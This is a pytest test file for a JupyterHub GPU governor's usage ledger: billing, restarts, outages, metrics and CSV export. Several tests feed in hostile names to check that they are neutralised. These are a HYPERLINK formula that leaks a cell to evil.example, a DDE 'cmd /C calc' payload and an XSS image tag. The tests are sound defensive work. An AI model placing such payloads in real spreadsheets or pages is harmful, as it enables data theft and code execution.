"""The usage ledger in the governor, against the fake Hub API: what each pass bills (by the
server's GPU state, its tier weight, its reports), across a service restart and an outage,
stopped and overlapping servers; culls and extensions; the per-team counters; and the CSV
export, which must say what the ledger holds."""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta

import pytest
from fake_hub_api import FakeHub
from test_governor import report_for

from jupyter_gpu_gov.core import clock, ledger
from jupyter_gpu_gov.core.policy import load_policies
from jupyter_gpu_gov.core.rightsize import load_tier_sizes
from jupyter_gpu_gov.hub import metrics, showback
from jupyter_gpu_gov.hub.app import GpuGovernor
from jupyter_gpu_gov.hub.hubapi import HubApi
from jupyter_gpu_gov.hub.options import Options
from jupyter_gpu_gov.hub.reconcile import Governor
from jupyter_gpu_gov.hub.store import Store

GPU = "GPU-bc5610b9-79c8-fedd-8899-07539c7f868a"
STEP = 30  # seconds between passes


@pytest.fixture(autouse=True)
def _clock():
    clock.reset()
    yield
    clock.reset()


def make(hub: FakeHub, db: str) -> Governor:
    return Governor(
        Store(db),
        HubApi(hub.api_url, hub.token),
        load_policies([], {"warn_after": "1h", "cull_after": "2h", "max_extensions": 1}),
        Options(
            tier_weights={"h100-3g": 0.5},
            ledger_max_gap=timedelta(minutes=3),
            gpu_hour_cost={"h100": 3.6},
            currency="EUR",
        ),
    )


def totals(store: Store, **owner) -> dict[str, float]:
    out: dict[str, float] = {}
    for bucket in store.usage(**owner):
        for k, v in bucket.values.items():
            out[k] = out.get(k, 0.0) + v
    return {k: round(v, 6) for k, v in out.items() if v}


def counter(team: str, state: str) -> float:
    value = metrics.REGISTRY.get_sample_value(
        "jupyter_gpu_gov_gpu_seconds_total", {"team": team, "state": state}
    )
    return value or 0.0


async def test_the_governor_bills_each_server_by_its_gpu_state_across_a_restart(
    tmp_path, frozen_clock
):
    db = f"sqlite:///{tmp_path / 'gov.sqlite'}"
    async with FakeHub() as hub:
        grant = {"gpu-gov/team": "vision", "gpu-gov/tier": "h100", "gpu-gov/weight": "1"}
        # Start 90 s before midnight, so that every run splits the hours between two days.
        now = clock.utcnow()
        midnight = now.replace(hour=0, minute=0, second=0, microsecond=0) + timedelta(days=1)
        clock.advance((midnight - now).total_seconds() - 3 * STEP)
        start = clock.utcnow()
        hub.add_server(
            "alice", started=start, state={"gpu_gov_grant": {**grant, "gpu-gov/project": "seg"}}
        )
        # bob's tier weight comes from the governor's tier_weights; he sends no report.
        hub.add_server(
            "bob",
            started=start,
            state={"gpu_gov_grant": {"gpu-gov/team": "nlp", "gpu-gov/tier": "h100-3g"}},
        )
        hub.add_server("carol", started=start)  # no tier, no report: no GPU, nothing billed
        gov = make(hub, db)
        before = counter("vision", ledger.IDLE_HELD)

        gov.ingest(report_for("alice", GPU, sm=0.0))  # holds 20 GB, does nothing
        await gov.reconcile()
        first_pass = totals(gov.store)
        for _ in range(2):
            clock.advance(STEP)
            gov.ingest(report_for("alice", GPU, sm=0.0))
            await gov.reconcile()
        # Busy for the next step.
        clock.advance(STEP)
        gov.ingest(report_for("alice", GPU, sm=0.9))
        await gov.reconcile()

        # The service restarts: it writes the ledger as it stops (it writes every 5 minutes
        # otherwise), and a new governor on the same store bills on from the cursor.
        await gov.close()
        restarted = make(hub, db)
        clock.advance(STEP)
        restarted.ingest(report_for("alice", GPU, sm=0.9))
        await restarted.reconcile()

        # alice's server stops; bob starts a second server, overlapping his first.
        hub.users["alice"].servers.pop("")
        hub.users["alice"].last_activity = clock.utcnow()  # as the Hub's User.stop does
        hub._reindex(hub.users["alice"])
        hub.add_server(
            "bob",
            "second",
            started=clock.utcnow(),
            state={"gpu_gov_grant": {"gpu-gov/team": "nlp", "gpu-gov/tier": "h100-3g"}},
        )
        clock.advance(STEP)
        await restarted.reconcile()
        clock.advance(STEP)
        await restarted.reconcile()
        restarted.flush_usage()  # as every page and the API do before they read it

    # The clock moved by the test's steps alone (frozen_clock): each span is exactly its steps.
    assert (clock.utcnow() - start).total_seconds() == 6 * STEP
    alice = totals(restarted.store, user="alice")
    bob = totals(restarted.store, user="bob")
    # The first pass bills from the server's start (at the same time), not a step before it.
    assert first_pass.get(ledger.IDLE_HELD, 0) == 0
    assert alice[ledger.IDLE_HELD] == pytest.approx(3 * STEP)
    # Sample and hold: idle as seen at 0, 30 and 60 s; active from the busy report at 90 s,
    # through the restart, until the pass that found it gone (150 s).
    assert alice[ledger.ACTIVE] == pytest.approx(2 * STEP)
    assert ledger.UNKNOWN not in alice and totals(restarted.store, user="carol") == {}
    # bob's first server: half a GPU, unknown (no reports) from its start to the last pass;
    # the second one 0.5 GPU for two passes; never idle.
    assert bob == {ledger.UNKNOWN: pytest.approx(0.5 * 6 * STEP + 0.5 * 2 * STEP)}
    assert counter("vision", ledger.IDLE_HELD) - before == pytest.approx(alice[ledger.IDLE_HELD])

    sessions = {s.server: s for s in restarted.store.usage_sessions()}
    assert sessions["alice/"].ended_at is not None and sessions["bob/"].ended_at is None
    assert sessions["alice/"].owner == ledger.Owner("alice", "vision", "seg", "h100")
    assert sessions["alice/"].allocated == pytest.approx(sum(alice.values()))

    # The CSV export says what the ledger holds, to the hundredth of a second.
    rows = showback.usage(restarted.store, restarted.options, ["user", "tier"], "all", None)
    parsed = list(csv.DictReader(io.StringIO(showback.to_csv(rows, ["user", "tier"]))))
    by_user = {r["user"]: r for r in parsed}
    # By day, the same hours: a test run across midnight splits them between two days.
    days = showback.usage(restarted.store, restarted.options, ["user", "tier"], "day", None)
    days_csv = list(csv.DictReader(io.StringIO(showback.to_csv(days, ["user", "tier"]))))
    for name, user in by_user.items():
        mine = [r for r in days_csv if r["user"] == name]
        assert [r["period"] for r in mine] == [
            start.date().isoformat(),
            midnight.date().isoformat(),
        ]
        # Each CSV cell is rounded to 1e-4 hours, so the days' sum may be off the total's
        # cell by half of that for every cell added (CI once crossed midnight: 0.0333 vs 0.0334).
        rounding = 0.5e-4 * (len(mine) + 1) + 1e-9
        for column in ("gpu_hours_idle_held", "gpu_hours_active", "gpu_hours_unknown"):
            by_day = sum(float(r[column]) for r in mine)
            assert by_day == pytest.approx(float(user[column]), abs=rounding), (name, column)
    assert float(by_user["alice"]["gpu_hours_idle_held"]) == pytest.approx(
        alice[ledger.IDLE_HELD] / 3600, abs=1e-4
    )
    assert float(by_user["alice"]["gpu_hours_active"]) == pytest.approx(
        alice[ledger.ACTIVE] / 3600, abs=1e-4
    )
    assert float(by_user["bob"]["gpu_hours_unknown"]) == pytest.approx(
        bob[ledger.UNKNOWN] / 3600, abs=1e-4
    )
    # Idle costs 3.6 EUR per h100 hour; unknown hours are never costed as idle.
    assert float(by_user["alice"]["idle_cost"]) == pytest.approx(
        round(alice[ledger.IDLE_HELD] / 3600 * 3.6, 2)
    )
    assert by_user["bob"]["idle_cost"] == "0.0" and by_user["bob"]["currency"] == "EUR"


async def test_an_outage_is_unobserved_and_culls_and_extensions_count(tmp_path):
    db = f"sqlite:///{tmp_path / 'gov.sqlite'}"
    async with FakeHub() as hub:
        hub.add_server(
            "alice", state={"gpu_gov_grant": {"gpu-gov/team": "vision", "gpu-gov/tier": "h100"}}
        )
        gov = make(hub, db)
        gov.ingest(report_for("alice", GPU, sm=0.0))
        await gov.reconcile()
        written_at = time.monotonic()  # the ledger's last write before the outage
        clock.advance(STEP)
        gov.ingest(report_for("alice", GPU, sm=0.0))
        await gov.reconcile()
        before = totals(gov.store)

        clock.advance(3600)  # the governor died and was down for an hour
        real_start = time.monotonic()
        again = make(hub, db)
        again.ingest(report_for("alice", GPU, sm=0.0))
        await again.reconcile()
        outage_real = time.monotonic() - written_at  # real seconds inside the unobserved span
        status, _ = await again.extend("alice/", "user:alice", "one more hour")
        assert status == 200
        await again.extend("alice/", "user:alice", "and another")  # waits for an admin
        await again.cull_now("alice/", "user:admin", "the demo is over", immediately=True)
        clock.advance(STEP)
        await again.reconcile()  # the server is gone (culled): billed to the cull
        again.flush_usage()
        real = time.monotonic() - real_start  # the clock moves on by the real time too

    after = totals(again.store)
    # The first pass wrote the ledger, the second had not yet (usage_write_every): the pass it
    # had not written is unobserved with the hour down, nothing is lost and nobody pays idle.
    # The clock moves on by the real time the test takes too: the span is longer by that much.
    assert 3600 + STEP - 0.5 <= after[ledger.UNOBSERVED] <= 3600 + STEP + outage_real + 0.5
    # Idle after the restart is only the real seconds the test took (a loaded machine: ~1 s).
    assert after[ledger.IDLE_HELD] == pytest.approx(before[ledger.IDLE_HELD], abs=0.5 + real)
    assert after["culls"] == 1 and after["extensions"] == 1
    (row,) = showback.usage(again.store, again.options, ["team"], "all", None)
    assert (row["culls"], row["extensions"]) == (1, 1)
    assert row["gpu_hours_unobserved"] == pytest.approx(after[ledger.UNOBSERVED] / 3600, abs=1e-4)


async def test_the_ledger_is_written_every_few_minutes_and_whenever_it_is_read(tmp_path):
    # At 10,000 servers a write updates 20,000 rows: every pass would spend 0.2 s on it.
    async with FakeHub() as hub:
        hub.add_server(
            "alice", state={"gpu_gov_grant": {"gpu-gov/team": "vision", "gpu-gov/tier": "h100"}}
        )
        gov = make(hub, f"sqlite:///{tmp_path / 'gov.sqlite'}")
        assert gov.options.usage_write_every == timedelta(minutes=5)
        written = []
        started = time.monotonic()
        for _ in range(4):
            gov.ingest(report_for("alice", GPU, sm=0.0))
            await gov.reconcile()
            written.append(totals(gov.store).get(ledger.IDLE_HELD, 0.0))
            clock.advance(STEP)
        assert written[1:] == [written[0]] * 3  # the first pass wrote, the next three did not
        gov.flush_usage()  # a page or the API reads it
        flushed = totals(gov.store)[ledger.IDLE_HELD]
        # The clock moves on by the real time the test takes too (seconds on a loaded machine).
        real = time.monotonic() - started
        assert written[0] + 3 * STEP - 0.5 <= flushed <= written[0] + 3 * STEP + real + 0.5
        started = time.monotonic()
        passes = 0  # a pass every 30 s: the one five minutes on writes
        while totals(gov.store)[ledger.IDLE_HELD] == flushed and passes < 20:
            clock.advance(STEP)
            gov.ingest(report_for("alice", GPU, sm=0.0))
            await gov.reconcile()
            passes += 1
        assert passes == 10
        real = time.monotonic() - started
        assert flushed + 11 * STEP - 0.5 <= totals(gov.store)[ledger.IDLE_HELD]
        assert totals(gov.store)[ledger.IDLE_HELD] <= flushed + 11 * STEP + real + 0.5


def test_the_ledger_write_interval_is_checked(capsys):
    app = GpuGovernor()
    app.initialize(["--GpuGovernor.usage_write_every=0"])
    assert app.usage_write_every == 0  # every pass
    with pytest.raises(SystemExit):
        GpuGovernor().initialize(["--GpuGovernor.usage_write_every=-60"])
    assert (
        "GpuGovernor.usage_write_every must be a number of seconds from 0 to 86,400, got -60.0"
        in capsys.readouterr().err
    )


def test_usage_queries_name_their_bad_parameter():
    assert showback.parse_group_by("team,week") == (["team"], "week")
    assert showback.parse_group_by("user,tier") == (["user", "tier"], "all")
    with pytest.raises(showback.UsageQueryError, match="group_by"):
        showback.parse_group_by("team,month")
    # At most one period (docs/api.md): two are refused, never the last one taken unsaid.
    with pytest.raises(showback.UsageQueryError, match="'group_by' names at most one of day, week"):
        showback.parse_group_by("team,day,week")
    assert showback.parse_group_by("day,team,day") == (["team"], "day")
    now = clock.utcnow()
    assert showback.parse_when("7d", "since", now) == now - timedelta(days=7)
    assert showback.parse_when("2025-03-01", "since").isoformat().startswith("2025-03-01T00:00")
    with pytest.raises(showback.UsageQueryError, match="'since'"):
        showback.parse_when("last tuesday", "since")
    assert (
        showback.to_csv([{"period": "all", "user": "=HYPERLINK(1)"}], ["user"])
        .splitlines()[1]
        .startswith("all,'=HYPERLINK(1)")
    )


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_no_csv_cell_starts_a_formula_whatever_the_name_starts_with(lead):
    """ASVS 5.0 (1.2.10) names a leading NUL with =, +, -, @, tab and CR: a project without
    the profile layer's check is any text the user sent (``ownership._text`` keeps NUL), and
    the NUL went out first in its cell."""
    name = lead + 'HYPERLINK("https://evil.example/?"&A1)'
    text = showback.to_csv([{"period": "all", "project": name}], ["project"])
    rows = list(csv.reader(io.StringIO(text, newline="")))  # as a spreadsheet splits them
    assert rows[1][1] == "'" + name


@pytest.mark.parametrize(
    "lead", [" =", "   +", " \t=", "\t =", "\n=", "\n @", "\u00a0-", "\u3000="]
)
def test_no_csv_cell_starts_a_formula_after_blanks(lead):
    """OWASP's CSV injection guidance: a spreadsheet may drop a cell's leading blanks (spaces,
    a line break, a no-break space) and read what follows as a formula. `` =1+1`` and
    ``"\\n=1+1"`` went out as they came, the blanks first in the cell and the formula after."""
    name = lead + "1+1+cmd|' /C calc'!A0"
    text = showback.to_csv([{"period": "all", "project": name}], ["project"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == "'" + name


@pytest.mark.parametrize("name", ["a =1", "vision", " vision", "1-2", "", "  "])
def test_a_csv_cell_with_no_formula_is_as_it_came(name):
    text = showback.to_csv([{"period": "all", "project": name}], ["project"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][1] == name


def test_charts_escape_names_and_handle_no_data():
    evil = "<img src=x onerror=alert(1)>"
    svg = showback.stacked_bars({evil: {"2025-03-03": 2.0}}, ["2025-03-03"], title="t", unit="h")
    assert "<img" not in svg and "&lt;img" in svg
    assert "No usage" in showback.stacked_bars({}, [], title="t", unit="h")
    assert "&lt;img" in showback.hbars({evil: 1.0}, title="t", unit="h")
    assert showback.histogram([0.0] * 10, title="t", unit="h").count("<rect") == 10


def test_the_per_server_series_follow_the_servers():
    """One series per running server, updated in place pass after pass: a server that stops
    loses its series; a change of state makes no new series (no churn in Prometheus), it moves
    the GPU-equivalents from one state of the team to another."""
    from types import SimpleNamespace

    def row(user, state):
        return SimpleNamespace(
            key=f"{user}/", user=user, name="", team="vision", project="", tier="h100", state=state
        )

    def series(name="jupyter_gpu_gov_server_gpu_equivalents", key="user"):
        return {
            s.labels[key]: s.value
            for family in metrics.REGISTRY.collect()
            if family.name == name
            for s in family.samples
            if s.labels.get("user", "ann") in ("ann", "ben") and s.labels.get("team") == "vision"
        }

    def by_state():
        return series("jupyter_gpu_gov_team_gpu_equivalents", "state")

    gauges = metrics.StateGauges()
    gauges.set("ann/", row("ann", "active"), 1.0, ("", ""))
    gauges.set("ben/", row("ben", "idle"), 2.0, ("", ""))
    gauges.publish()
    assert series() == {"ann": 1.0, "ben": 2.0}
    assert by_state() == {"active": 1.0, "idle": 2.0}
    before = [
        s.labels
        for f in metrics.REGISTRY.collect()
        for s in f.samples
        if s.labels.get("user") == "ann"
    ]
    gauges.set("ann/", row("ann", "warned"), 1.0, ("", ""))
    gauges.drop("ben/")
    gauges.publish()
    assert series() == {"ann": 1.0}
    assert by_state() == {"warned": 1.0}
    after = [
        s.labels
        for f in metrics.REGISTRY.collect()
        for s in f.samples
        if s.labels.get("user") == "ann"
    ]
    assert before == after  # the same series, not a new one per state
    gauges.drop("ann/")
    gauges.publish()
    assert series() == {} and by_state() == {}


@pytest.mark.parametrize("statement", ["add_to_usage", "update_session", "update_steady_session"])
def test_the_bulk_ledger_writes_store_what_sqlalchemy_would(statement):
    """``save_usage`` runs its two updates as plain DBAPI executemany: every column, datetimes
    included, must be stored exactly as through ``Connection.execute``."""
    from datetime import datetime, timezone

    from sqlalchemy import insert

    from jupyter_gpu_gov.hub import store as store_module

    plus_two = timezone(timedelta(hours=2))
    when = [datetime(2026, 11, 29, 23, 59, 59, 123456, tzinfo=timezone.utc), None]
    when.append(datetime(2026, 11, 30, 1, 0, tzinfo=plus_two))
    table, statement_of, params = {
        "add_to_usage": (
            store_module.UsageRow.__table__,
            store_module._ADD_TO_USAGE,
            store_module._ADD_TO_USAGE_PARAMS,
        ),
        "update_session": (
            store_module.UsageSessionRow.__table__,
            store_module._UPDATE_SESSION,
            store_module._UPDATE_SESSION_PARAMS,
        ),
        "update_steady_session": (
            store_module.UsageSessionRow.__table__,
            store_module._UPDATE_STEADY_SESSION,
            store_module._UPDATE_STEADY_SESSION_PARAMS,
        ),
    }[statement]
    rows = []
    for i in range(3):
        values = {
            "k_day": "2026-11-29",
            "k_user": f"u{i}",
            "k_team": "t",
            "k_project": "",
            "k_tier": "h100",
            "k_server": f"u{i}/",
            "k_session": "s",
            "v_user": f"u{i}",
            "v_team": "vision",
            "v_project": "p",
            "v_tier": "h100",
            "v_first_at": when[0],
            "v_at": when[2],
            "v_ended_at": when[i % 3],
            "v_gpus": 0.5,
            "v_state": "idle_held",
        }
        rows.append(tuple(values.get(p, 1.5 + i) for p in params))  # amounts: floats
    stored = []
    for way in ("sqlalchemy", "executemany"):
        store = Store("sqlite://")
        with store.engine.begin() as connection:
            for i in range(3):  # the rows to update
                key = {"day": "2026-11-29", "team": "t", "project": "", "tier": "h100"}
                key["server"] = f"u{i}/"
                key.update(user=f"u{i}", session="s", first_at=when[0], at=when[0])
                connection.execute(insert(table), [{c: v for c, v in key.items() if c in table.c}])
            if way == "sqlalchemy":
                connection.execute(statement_of, [dict(zip(params, r, strict=True)) for r in rows])
            else:
                getattr(store, f"_{statement}").run(connection, rows)
            stored.append(connection.exec_driver_sql(f"SELECT * FROM {table.name}").fetchall())
    assert stored[0] == stored[1]
    assert len(stored[0]) == 3


def ledger_rows_hold_their_sessions_after_every_write(url: str) -> None:
    """What each write of the ledger leaves in its sessions' rows is the drained sessions,
    column by column: a session seen as it was (its row updated by what moved), its owner's
    team changed, its end, the same session found running again (from the same start, and
    from a later one before a write), and a store opened anew on the rows of an earlier run."""
    from datetime import datetime, timezone

    utc = timezone.utc
    t0 = datetime(2026, 12, 7, 10, tzinfo=utc)
    vision, robotics = ledger.Owner("ann", "vision", "p", "h100"), ledger.Owner("ann", "robotics")
    book = ledger.Ledger(timedelta(minutes=10))
    store = Store(url)
    drained: dict[tuple[str, str], ledger.Session] = {}

    def look(server, minute, owner=vision, state=ledger.ACTIVE, started=t0):
        at = t0 + timedelta(minutes=minute)
        book.observe(ledger.Observation(server, "s1", at, owner, 1.0, state, started))

    def write_and_check() -> None:
        deltas, sessions = book.drain()
        store.save_usage(deltas, sessions)
        drained.update({(s.server, s.session): s for s in sessions})

        def fields(s: ledger.Session) -> tuple:
            totals = tuple(s.totals.get(f, 0.0) for f in ledger.FIELDS)
            return (s.owner, s.first_at, s.at, s.ended_at, s.gpus, s.state, totals)

        stored = {(s.server, s.session): fields(s) for s in Store(url).usage_sessions()}
        assert stored == {key: fields(s) for key, s in drained.items()}

    for minute in (1, 2):  # first written whole, then as seen again
        look("ann/a", minute)
        look("ann/b", minute, state=ledger.IDLE_HELD)
        write_and_check()
    look("ann/a", 3, owner=robotics)  # its team changed
    look("ann/b", 3, state=ledger.ACTIVE)
    write_and_check()
    book.close("ann/b", t0 + timedelta(minutes=4))  # stopped
    look("ann/a", 4, owner=robotics)
    write_and_check()
    look("ann/b", 5)  # the same session running again, from the same start
    write_and_check()
    look("ann/b", 6)
    write_and_check()
    book.close("ann/b", t0 + timedelta(minutes=7))  # stopped and found again before a write,
    look("ann/b", 8, started=None)  # from this look
    look("ann/a", 8, owner=vision)
    write_and_check()
    store = Store(url)  # a service started again: rows of an earlier run
    for minute in (9, 10):
        look("ann/a", minute)
        look("ann/b", minute, started=None, state=ledger.IDLE_FREE)
        write_and_check()


def test_ledger_rows_hold_their_sessions_after_every_write(tmp_path):
    ledger_rows_hold_their_sessions_after_every_write(f"sqlite:///{tmp_path}/gov.sqlite")


def test_names_users_chose_leave_the_exposition_readable():
    """Quotes, backslashes, newlines, CR and bidi controls in the names users choose (a
    project, a server) and the Hub passes on: Prometheus's text parser reads every series back
    with its names as they were, and a stopped server's series is gone."""
    from types import SimpleNamespace

    from prometheus_client import generate_latest
    from prometheus_client.parser import text_string_to_metric_families

    names = ['a"b', "c\\d", "e\nf", "g\rh", "\u202eevil", '} 1\nx{y="', "ü\\n"]
    gauges = metrics.StateGauges()
    for i, name in enumerate(names):
        row = SimpleNamespace(user=f"exp{i}", name=name, team=name, project=name, tier=name)
        gauges.set(f"exp{i}/{name}", SimpleNamespace(**vars(row), state="idle"), 1.0, (name, name))
    gauges.publish()

    def read() -> dict:
        text = generate_latest(metrics.REGISTRY).decode()
        return {
            s.labels["user"]: s.labels
            for family in text_string_to_metric_families(text)
            if family.name == "jupyter_gpu_gov_server_gpu_equivalents"
            for s in family.samples
            if s.labels["user"].startswith("exp")
        }

    seen = read()
    for i, name in enumerate(names):
        labels = seen[f"exp{i}"]
        assert [labels[k] for k in ("server", "team", "project", "tier", "pod")] == [name] * 5
    for i, name in enumerate(names):
        gauges.drop(f"exp{i}/{name}")
    gauges.publish()
    assert read() == {}


async def test_a_renamed_tiers_policies_costs_and_weights_follow_it_by_either_name(
    tmp_path, frozen_clock
):
    """``h100`` was renamed ``h100-sxm`` (``formerly: ["h100"]``, which the profile layer
    passes the governor with the tiers it sizes). ann's server was granted under the old name,
    ben's under the new one. A policy, a cost or a weight keyed by one name did not reach a
    server of the other: ann fell to the default policy, and ben was billed at the default
    price with no weight. The governor now resolves ``formerly`` as the profile layer does:
    both servers are the tier's, under its name now, whichever name a setting uses."""
    sizes = load_tier_sizes(
        [{"name": "h100-sxm", "memory_gb": 80, "weight": 1, "formerly": ["h100"]}]
    )
    async with FakeHub() as hub:
        for user, tier in (("ann", "h100"), ("ben", "h100-sxm")):
            grant = {"gpu-gov/team": "vision", "gpu-gov/tier": tier}
            hub.add_server(user, state={"gpu_gov_grant": grant})
        policies = [
            {"name": "sxm", "match": {"tiers": ["h100-sxm"]}, "warn_after": "3h"},
            {"name": "old-card", "match": {"tiers": ["h100"]}, "warn_after": "2h"},
        ]
        gov = Governor(
            Store(f"sqlite:///{tmp_path / 'gov.sqlite'}"),
            HubApi(hub.api_url, hub.token),
            load_policies(policies, {"warn_after": "1h", "cull_after": "4h"}),
            Options(tier_sizes=sizes, tier_weights={"h100": 0.5}, gpu_hour_cost={"h100": 2.0}),
        )
        await gov.reconcile()
        rows = {user: gov.row(f"{user}/") for user in ("ann", "ben")}
        assert {u: (r.tier, r.policy) for u, r in rows.items()} == {
            "ann": ("h100-sxm", "sxm"),
            "ben": ("h100-sxm", "sxm"),
        }
        assert gov.options.cost_per_hour("h100-sxm") == gov.options.cost_per_hour("h100") == 2.0
        # The old name's policy (a config not yet changed) still matches both, by either name.
        gov.policies = load_policies(policies[1:], {"warn_after": "1h", "cull_after": "4h"})
        clock.advance(STEP)
        await gov.reconcile()
        assert {r.policy for r in (gov.row("ann/"), gov.row("ben/"))} == {"old-card"}
        clock.advance(STEP)
        await gov.reconcile()
        gov.flush_usage()
        held = {b.owner.user: b for b in gov.store.usage()}
        assert set(held) == {"ann", "ben"}
        assert {b.owner.tier for b in held.values()} == {"h100-sxm"}  # showback: one tier
        seconds = {u: sum(b.values.values()) for u, b in held.items()}
        # Both at the weight of 0.5 for the two steps (at 1, or none, one would be 30 s off the
        # other). The clock stands still between steps: each pass reads one time for both.
        assert seconds == {
            "ann": pytest.approx(0.5 * 2 * STEP),
            "ben": pytest.approx(0.5 * 2 * STEP),
        }


@pytest.mark.parametrize("profile", ["9" * 400 + "g.5gb", "0g.5gb", "8g.100gb"])
async def test_a_reported_mig_profile_no_gpu_has_bills_a_whole_card_and_the_server_is_decided(
    tmp_path, profile
):
    """A report's devices weigh what a server is billed where nothing configured says (a MIG
    slice its share of the card's compute). A profile its user wrote with 400 digits raised
    OverflowError in every pass's look at the server: not decided ("skipped until it can be")
    and not billed; "0g" billed the GPU at nothing. A profile no card has (1 to 7 slices of
    7) counts a whole card."""
    db = f"sqlite:///{tmp_path / 'gov.sqlite'}"
    async with FakeHub() as hub:
        real_start = time.monotonic()  # (billed from the server's start)
        hub.add_server(
            "alice", state={"gpu_gov_grant": {"gpu-gov/team": "vision", "gpu-gov/tier": "h100"}}
        )
        gov = make(hub, db)
        for _ in range(2):
            report = report_for("alice", GPU, sm=0.0)
            report["devices"][0]["mig_profile"] = profile
            gov.ingest(report)
            await gov.reconcile()
            clock.advance(STEP)
        gov.flush_usage()
        real = time.monotonic() - real_start  # the clock moves on by the real time too
    assert [a.action for a in gov.store.audit_rows("alice/") if a.action == "error"] == []
    assert STEP - 0.5 <= totals(gov.store)[ledger.IDLE_HELD] <= STEP + real + 0.5  # one GPU


async def test_a_mig_slice_its_report_names_bills_what_the_allocators_record_says_it_holds(
    tmp_path,
):
    """Where no weight is configured a server was billed its report's devices, its user's
    words, before the Hub's records: the workstation allocator pinned it a whole card and its
    report, naming that card with ``mig_profile: "1g.10gb"``, was billed a seventh of it (and
    counted so in showback). The records, which its user cannot write, weigh first."""
    db = f"sqlite:///{tmp_path / 'gov.sqlite'}"
    async with FakeHub() as hub:
        real_start = time.monotonic()
        hub.add_server(
            "alice",
            state={
                "gpu_gov_grant": {"gpu-gov/team": "vision", "gpu-gov/tier": "h100"},
                "gpu_gov_devices": [GPU],
                "gpu_gov_gpus": [{"uuid": GPU}],
            },
        )
        gov = make(hub, db)
        for _ in range(2):
            report = report_for("alice", GPU, sm=0.0)
            report["devices"][0]["mig_profile"] = "1g.10gb"
            gov.ingest(report)
            await gov.reconcile()
            clock.advance(STEP)
        gov.flush_usage()
        real = time.monotonic() - real_start
    assert gov._distrusted.get("alice/") is None  # the report agrees with the records
    assert STEP - 0.5 <= totals(gov.store)[ledger.IDLE_HELD] <= STEP + real + 0.5  # one GPU


@pytest.mark.parametrize("weight", ["inf", "1e400", "nan", "-1", "1e300"])
async def test_a_grant_weight_that_is_no_finite_share_bills_as_if_none_were_recorded(
    tmp_path, weight
):
    """A grant's ``gpu-gov/weight`` (an admin's or a hand-edited record) of "inf" or "1e400"
    billed infinite GPU-seconds: showback's every figure of the team and the ledger's sums
    inf. A weight that is not a finite share of at most 1,000 GPU-equivalents (a tier's
    bound) reads as none recorded: the tier's configured weight, as documented."""
    db = f"sqlite:///{tmp_path / 'gov.sqlite'}"
    async with FakeHub() as hub:
        real_start = time.monotonic()
        grant = {"gpu-gov/team": "vision", "gpu-gov/tier": "h100-3g", "gpu-gov/weight": weight}
        hub.add_server("alice", state={"gpu_gov_grant": grant})
        gov = make(hub, db)  # tier_weights: h100-3g 0.5
        for _ in range(2):
            gov.ingest(report_for("alice", GPU, sm=0.0))
            await gov.reconcile()
            clock.advance(STEP)
        gov.flush_usage()
        real = time.monotonic() - real_start
    held = totals(gov.store)[ledger.IDLE_HELD]
    assert 0.5 * (STEP - 0.5) <= held <= 0.5 * (STEP + real + 0.5), held
